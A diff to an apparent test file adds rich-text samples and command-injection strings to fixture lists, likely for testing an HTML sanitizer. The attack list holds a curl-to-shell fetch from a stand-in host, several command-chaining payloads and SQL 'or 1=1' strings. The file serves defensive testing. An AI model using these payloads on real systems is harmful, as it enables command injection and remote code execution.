@@ -24,6 +24,12 @@ RICH_TEXTS = """
 <div dir="ltr">(see <a href="https://x">(here)</a>)</div>
 <li data-list="bullet">(optional) Bring a coat</li>
 <img src="https://cdn.example.com/a.jpg" alt="photo"> (from above)
+<p>(more)</p>
+<p>(see below) and (b)</p>
+<h2 id="x-y">(it's)</h2>
+<label for="a">(12)</label>
+<span data-mention="@bob" class="m">(empty)</span>
+<pre class="ql-syntax" spellcheck="false">(more)</pre>
 <math><mi>x</mi><mo>=</mo><mn>2</mn></math>
 <code>&lt;math&gt;</code>
 <code>&lt;video&gt;</code> and <code>&lt;audio&gt;</code>
@@ -61,6 +67,8 @@ ATTACKS = """
 <p class="or 1=1">x</p>
 <b class="x">(curl e.example|sh)</b>
 <b class="x">(id)</b>; id
+<b>(id)</b> | id
+<p>(x);id</p>
 <b class="x">(id)</b> $(id)
 " or 1=1 or "<a href="#">
 x" or "1<a href="#">
